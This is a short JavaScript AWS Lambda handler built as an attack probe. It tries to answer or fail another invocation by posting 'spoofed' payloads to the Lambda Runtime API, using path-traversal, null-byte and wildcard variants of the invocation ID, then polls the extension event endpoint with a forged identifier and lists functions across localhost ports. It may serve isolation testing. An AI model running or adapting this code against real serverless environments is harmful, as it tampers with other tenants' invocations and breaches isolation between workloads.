// Speaks for somebody else at the Runtime API: answers another invocation, asks for its events, ends it.

import http from "node:http";

export const handler = async (event) => {
    const taken = [];
    const ask = (api, method, path, body = "", headers = {}) => new Promise((resolve) => {
        const [host, port] = api.split(":");
        const request = http.request({ host, port, method, path, headers, timeout: 500, agent: false }, (answer) => {
            let said = "";
            answer.on("data", (part) => { said += part; }).on("end", () => {
                if (answer.statusCode < 300 || said.includes(event.word)) taken.push(`${api} ${path}: ${answer.statusCode}`);
                resolve();
            });
        });
        request.on("timeout", () => request.destroy()).on("error", resolve);
        request.end(body);
    });
    for (const api of [process.env.AWS_LAMBDA_RUNTIME_API, ...event.ports.map((port) => `127.0.0.1:${port}`)]) {
        for (const id of [event.other_id, `../${event.other_id}`, `${event.other_id}%00`, "*", ""]) {
            for (const end of ["response", "error"]) await ask(api, "POST", `/2018-06-01/runtime/invocation/${id}/${end}`, '"spoofed"');
        }
        await ask(api, "GET", "/2020-01-01/extension/event/next", "", {
            "Lambda-Extension-Identifier": "00000000-0000-4000-8000-000000000000",
        });
        await ask(api, "GET", "/2015-03-31/functions");
    }
    return taken;
};
